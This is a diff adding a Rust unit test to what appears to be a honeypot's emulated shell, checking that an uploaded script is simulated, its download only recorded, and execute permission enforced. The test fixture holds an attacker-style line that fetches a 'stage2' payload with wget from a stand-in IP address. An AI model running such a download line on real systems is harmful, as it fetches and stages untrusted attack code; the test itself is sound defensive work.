@@ -345,6 +345,41 @@ fn downloads_are_recorded_not_fetched() {
 }
 
 #[test]
+fn uploaded_scripts_run_in_the_fake_shell_only() {
+    let v = vfs();
+    let t = Utc.with_ymd_and_hms(2026, 11, 23, 9, 0, 0).unwrap();
+    v.add_file(
+        "/tmp/x.sh",
+        b"#!/bin/sh\ncd /tmp\nwget http://203.0.113.77/stage2 -O s2\necho done\n",
+        0o755,
+        t,
+        None,
+    )
+    .unwrap();
+    let mut sh = Shell::new(v, "root", opts());
+    for cmd in ["sh /tmp/x.sh", "/tmp/x.sh", "cd /tmp; ./x.sh"] {
+        let out = sh.execute(cmd);
+        assert!(out.stdout.ends_with("done\n"), "{cmd}: {}", out.stdout);
+        assert!(
+            out.events.iter().any(|e| matches!(e, ShellEvent::Download { url, .. } if url == "http://203.0.113.77/stage2")),
+            "{cmd}"
+        );
+        // One command event: the line typed, not the script's lines.
+        assert_eq!(
+            out.events
+                .iter()
+                .filter(|e| matches!(e, ShellEvent::Command { .. }))
+                .count(),
+            1
+        );
+    }
+    assert_eq!(
+        sh.execute("chmod -x /tmp/x.sh; /tmp/x.sh").stdout,
+        "-bash: /tmp/x.sh: Permission denied\n"
+    );
+}
+
+#[test]
 fn sudo_prompts_and_records_password() {
     let v = vfs();
     let mut sh = Shell::new(v, "ubuntu", opts());
